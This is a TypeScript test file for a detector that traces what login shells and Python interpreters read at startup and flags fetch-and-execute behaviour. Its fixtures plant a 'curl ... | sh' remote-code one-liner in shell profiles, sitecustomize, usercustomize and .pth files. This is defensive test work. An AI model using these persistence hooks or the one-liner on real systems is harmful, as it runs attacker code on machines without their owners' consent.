import { describe, expect, test } from "vitest";
import { openPrograms } from "./follow.ts";
import { commandOf, contextOf, follow, hostWith, kinds, script } from "./support.test-support.ts";

const FETCH = "curl -s http://192.0.2.7/x | sh";
const PYTHON = {
  "/usr/bin/python3": { link: "python3.11" },
  "/usr/bin/python3.11": script(""),
};

describe("what a login shell reads first", () => {
  test.each([
    [["/bin/bash", "-lc", "true"], true],
    [["/bin/sh", "--login", "-c", "true"], true],
    [["/bin/bash", "-c", "true -l"], false],
    [["/bin/bash", "-e", "/srv/x", "-l"], false],
  ])("%j", (argv, reads) => {
    const followed = follow(argv, { "/etc/profile.d/zz.sh": `(${FETCH}) &\n`, "/srv/x": "true\n" });
    expect(kinds(followed).includes("fetch-to-interpreter")).toBe(reads);
  });

  test("the first profile of the account's home", () => {
    const host = hostWith({ "/root/.bash_profile": "true\n", "/root/.profile": `${FETCH}\n` });
    const run = (command: readonly string[]) =>
      kinds(openPrograms(host).follow(commandOf(command), contextOf(host, { home: "/root" })));
    expect(run(["/bin/bash", "-l", "-c", "true"])).toEqual([]);
  });
});

describe("what every Python reads first", () => {
  test.each([
    ["/usr/lib/python3.11/sitecustomize.py", `import os\nos.system('${FETCH}')\n`],
    ["/usr/local/lib/python3.11/dist-packages/usercustomize.py", `import os; os.system('${FETCH}')\n`],
    ["/usr/lib/python3/dist-packages/x.pth", `/srv/lib\nimport os; os.system('${FETCH}')\n`],
  ])("%s", (path, text) => {
    const files = { ...PYTHON, [path]: text, "/srv/x": script("#!/usr/bin/python3\nprint(1)\n") };
    for (const argv of [["/srv/x"], ["/usr/bin/python3", "-c", "print(1)"]])
      expect(kinds(follow(argv, files))).toContain("fetch-to-interpreter");
  });

  test("a virtual environment has its own", () => {
    const files = {
      "/srv/v/bin/python3.11": script(""),
      "/srv/v/bin/python": { link: "python3.11" },
      "/srv/v/lib/python3.11/site-packages/x.pth": `import os; os.system('${FETCH}')\n`,
    };
    expect(kinds(follow(["/srv/v/bin/python", "-c", "1"], files))).toContain("fetch-to-interpreter");
    expect(kinds(follow(["/usr/bin/python3", "-c", "1"], { ...PYTHON, ...files }))).toEqual([]);
  });

  test("lines of .pth files that only name directories are none", () => {
    const files = { ...PYTHON, "/usr/lib/python3/dist-packages/x.pth": "/srv/lib\n# import os\n" };
    expect(follow(["/usr/bin/python3", "-c", "1"], files).behaviours.map(({ kind }) => kind)).toEqual([
      "inline-interpreter-code",
    ]);
  });
});
